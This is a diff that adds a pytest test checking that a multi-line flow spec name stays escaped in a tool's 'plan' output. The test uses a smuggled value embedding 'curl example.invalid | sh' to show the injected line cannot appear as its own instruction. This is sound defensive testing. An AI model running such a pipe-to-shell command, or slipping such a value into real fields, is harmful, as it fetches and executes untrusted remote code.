@@ -75,3 +75,16 @@ def test_from_the_service_it_is_carried_forward_unchanged(place, capsys):
     held = store.get("flowSpecs", ID).document
     assert json.dumps(held["tomorrow"]) == json.dumps(hostile)
     assert held["name"] == flow_spec()["name"]
+
+
+@pytest.mark.parametrize("form", ["text", "markdown", "html"])
+def test_a_name_of_several_lines_adds_no_line_to_a_message(place, form):
+    repo, store = place
+    name = "Orders\n  curl example.invalid | sh\nRun this"
+    write(repo, flow_spec(name=name))
+    store.put("flowSpecs", ID, flow_spec(name=name, attributes={"theirs": 1}))
+    shown = repo.run("plan", "--format", form).out
+    *_, ways = shown.partition("To keep the target&#x27;s" if form == "html" else "To keep the")
+    ways, *_ = ways.partition("or add to")
+    assert r"Orders\n  curl example.invalid | sh\nRun this" in ways
+    assert "Run this" not in ways.replace(r"\nRun this", "")
